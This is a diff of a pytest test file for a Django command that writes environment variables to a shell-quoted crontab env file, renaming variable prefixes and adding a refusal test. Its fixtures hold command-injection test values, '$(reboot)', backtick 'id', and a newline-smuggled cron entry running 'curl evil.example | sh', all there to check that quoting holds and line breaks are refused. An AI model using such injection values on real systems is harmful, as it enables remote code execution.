@@ -16,14 +16,14 @@ from tests.conftest import manage, project_env
 AWKWARD = {
     "DJANGO_SECRET_KEY": 'it\'s $HOME `id` "quoted" \\ back; & | * ~ 100%',
     "DATABASE_URL": "postgres://sync:p%40ss w0rd@db.internal:5432/app?sslmode=require",
-    "SYNC_TRIGGER_TOKEN": "ünïcødé-tøken-%s-$(reboot)",
+    "LOCKS_TRIGGER_TOKEN": "ünïcødé-tøken-%s-$(reboot)",
 }
 
 
 @pytest.fixture
 def env_file(settings, tmp_path):
-    settings.CRONTAB_ENV_FILE = tmp_path / "var" / "crontab.env"
-    return settings.CRONTAB_ENV_FILE
+    settings.LOCKS_CRONTAB_ENV_FILE = tmp_path / "var" / "crontab.env"
+    return settings.LOCKS_CRONTAB_ENV_FILE
 
 
 def mode(path) -> int:
@@ -45,7 +45,7 @@ def test_writes_the_project_variables_owner_only_and_shell_quoted(env_file, monk
     for name, value in AWKWARD.items():
         monkeypatch.setenv(name, value)
     monkeypatch.setenv("HOME_UNRELATED", "not ours")
-    monkeypatch.setenv("SYNC_EMPTY", "")
+    monkeypatch.setenv("LOCKS_EMPTY", "")
     out = StringIO()
 
     call_command("crontab_env", stdout=out)
@@ -56,7 +56,7 @@ def test_writes_the_project_variables_owner_only_and_shell_quoted(env_file, monk
         assert sourced(env_file, name) == value
     text = env_file.read_text()
     assert "HOME_UNRELATED" not in text
-    assert "SYNC_EMPTY" not in text  # empty is the same as unset to the settings
+    assert "LOCKS_EMPTY" not in text  # empty is the same as unset to the settings
     assert f"variables to {env_file} (mode 0600): " in out.getvalue()
     assert "DJANGO_SECRET_KEY" in out.getvalue()
     assert AWKWARD["DJANGO_SECRET_KEY"] not in out.getvalue()  # names only, never values
@@ -81,12 +81,12 @@ def test_an_existing_readable_file_is_replaced_by_an_owner_only_one(env_file, mo
 @pytest.mark.parametrize("breaker", ["\n", "\r", "\r\n"], ids=["newline", "carriage-return", "crlf"])
 def test_a_value_with_a_line_break_is_refused_and_nothing_is_written(env_file, monkeypatch, breaker):
     monkeypatch.setenv("DJANGO_SECRET_KEY", "fine")
-    monkeypatch.setenv("SYNC_CONTESTS_SCHEDULE", f"0 * * * *{breaker}* * * * * curl evil.example | sh")
+    monkeypatch.setenv("HOSTPROJECT_SCHEDULE", f"0 * * * *{breaker}* * * * * curl evil.example | sh")
 
     with pytest.raises(CommandError) as excinfo:
         call_command("crontab_env", stdout=StringIO())
 
-    assert "SYNC_CONTESTS_SCHEDULE contains a newline or carriage return" in str(excinfo.value)
+    assert "HOSTPROJECT_SCHEDULE contains a newline or carriage return" in str(excinfo.value)
     assert "nothing was written" in str(excinfo.value)
     assert not env_file.parent.exists()
 
@@ -105,20 +105,32 @@ def test_a_refusal_leaves_an_existing_file_as_it_was(env_file, monkeypatch):
 
 
 def test_as_a_process_the_refusal_is_exit_1_with_one_clear_line(tmp_path):
-    path = tmp_path / "crontab.env"
-    env = project_env(DJANGO_CRONTAB_ENV_FILE=str(path), SYNC_TRIGGER_TOKEN="abc\ndef")
+    path = (
+        tmp_path / "crontab.env"
+    )  # the host project's LOCKS_CRONTAB_ENV_FILE is $HOSTPROJECT_VAR/crontab.env
+    env = project_env(HOSTPROJECT_VAR=str(tmp_path), LOCKS_TRIGGER_TOKEN="abc\ndef")
 
     refused = manage("crontab_env", env=env)
 
     assert refused.returncode == 1
     assert refused.stderr.strip() == (
-        f"CommandError: {path}: SYNC_TRIGGER_TOKEN contains a newline or carriage return; "
+        f"CommandError: {path}: LOCKS_TRIGGER_TOKEN contains a newline or carriage return; "
         "refusing to write it, nothing was written"
     )
     assert not path.exists()
 
-    env["SYNC_TRIGGER_TOKEN"] = "abcdef"
+    env["LOCKS_TRIGGER_TOKEN"] = "abcdef"
     written = manage("crontab_env", env=env)
     assert written.returncode == 0, written.stderr
-    assert sourced(path, "SYNC_TRIGGER_TOKEN") == "abcdef"
-    assert sourced(path, "DJANGO_CRONTAB_ENV_FILE") == str(path)
+    assert sourced(path, "LOCKS_TRIGGER_TOKEN") == "abcdef"
+    assert sourced(path, "HOSTPROJECT_VAR") == str(tmp_path)  # the host's own prefix, in its setting
+    assert sourced(path, "DJANGO_SETTINGS_MODULE") == "tests.hostproject.settings"
+
+
+def test_without_a_file_named_it_refuses(settings):
+    settings.LOCKS_CRONTAB_ENV_FILE = None  # locks/conf.py's default
+
+    with pytest.raises(
+        CommandError, match=r"^LOCKS_CRONTAB_ENV_FILE is not set: name the file the crontab line sources$"
+    ):
+        call_command("crontab_env", stdout=StringIO())
